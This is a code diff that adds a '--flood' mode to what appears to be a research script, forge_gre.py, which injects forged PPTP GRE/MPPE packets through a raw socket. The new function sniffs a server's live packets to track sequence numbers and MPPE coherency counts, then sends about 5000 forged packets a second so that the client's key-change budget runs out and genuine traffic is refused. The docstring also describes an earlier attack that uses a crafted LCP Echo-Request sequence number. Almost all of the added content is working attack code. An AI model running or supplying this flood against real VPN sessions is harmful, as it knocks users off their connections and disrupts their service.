@@ -16,7 +16,15 @@ flushed bit or not) and random bodies. Prints what it sent as JSON.
 Learns the client's call ID from its Outgoing-Call-Request (clear, on TCP 1723)
 and at once sends a clear LCP Echo-Request to that call with the sequence
 number 2^30, before the server's first LCP packet: the attack that made the
-first frame own the client's receive window."""
+first frame own the client's receive window.
+
+    forge_gre.py SERVER CLIENT --flood SECONDS
+
+For SECONDS, follows the server's packets on the wire and sends about 5000
+forged MPPE packets a second, each with the next sequence number and the
+coherency count one past the server's next (one key change ahead): the flood
+that emptied the receiver's key-change budget, so that the genuine packet after
+a natural loss was refused."""
 import json
 import os
 import random
@@ -102,6 +110,61 @@ def before_lcp(sock, server, client):
     print(json.dumps({"call_id": call_id, "seq": 1 << 30, "sent": 3}), flush=True)
 
 
+def flood(sock, server, client, seconds):
+    import threading
+    dst_mac, src_mac, call_id, seq = sniff(sock, server, client, time.monotonic() + 10)
+    latest = {"seq": seq, "cc": None}
+    end = time.monotonic() + seconds
+
+    def follow():
+        # A second socket: the sending one must not block on reads.
+        s2 = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_ALL))
+        s2.bind((IFACE, 0))
+        s2.settimeout(0.2)
+        while time.monotonic() < end:
+            try:
+                frame = s2.recv(65535)
+            except socket.timeout:
+                continue
+            ip = frame[14:]
+            if frame[12:14] != b"\x08\x00" or len(ip) < 40 or ip[9] != 47 or ip[12:16] != server:
+                continue
+            gre = ip[(ip[0] & 0x0F) * 4:]
+            flags = struct.unpack("!H", gre[:2])[0]
+            if not flags & 0x1000:
+                continue
+            off = 16 if flags & 0x0080 else 12
+            ppp = gre[off:]
+            # With or without address/control and protocol field compression.
+            if ppp[:2] == b"\xff\x03":
+                ppp = ppp[2:]
+            if ppp[:2] == b"\x00\xfd":
+                ppp = ppp[2:]
+            elif ppp[:1] == b"\xfd":
+                ppp = ppp[1:]
+            else:
+                continue
+            if len(ppp) >= 2:
+                latest["seq"] = struct.unpack("!I", gre[8:12])[0]
+                latest["cc"] = struct.unpack("!H", ppp[:2])[0] & 0x0FFF
+
+    t = threading.Thread(target=follow, daemon=True)
+    t.start()
+    sent = 0
+    while time.monotonic() < end:
+        if latest["cc"] is None:
+            time.sleep(0.01)
+            continue
+        cc = (latest["cc"] + 2) & 0x0FFF
+        body = struct.pack("!H", 0x9000 | cc) + os.urandom(60)
+        for _ in range(50):
+            sock.send(packet(dst_mac, src_mac, server, client, call_id, latest["seq"] + 1, b"\xff\x03\x00\xfd" + body))
+            sent += 1
+        time.sleep(0.01)
+    t.join()
+    print(json.dumps({"call_id": call_id, "sent": sent, "seconds": seconds}), flush=True)
+
+
 def mppe_garbage():
     cc = random.getrandbits(12)
     bits = 0x10 | (0x80 if random.random() < 0.5 else 0)
@@ -115,6 +178,8 @@ def main():
     sock.bind((IFACE, 0))
     if sys.argv[3] == "--before-lcp":
         return before_lcp(sock, server, client)
+    if sys.argv[3] == "--flood":
+        return flood(sock, server, client, float(sys.argv[4]))
     count = int(sys.argv[3])
     dst_mac, src_mac, call_id, seq = sniff(sock, server, client, time.monotonic() + 10)
     sent = 0
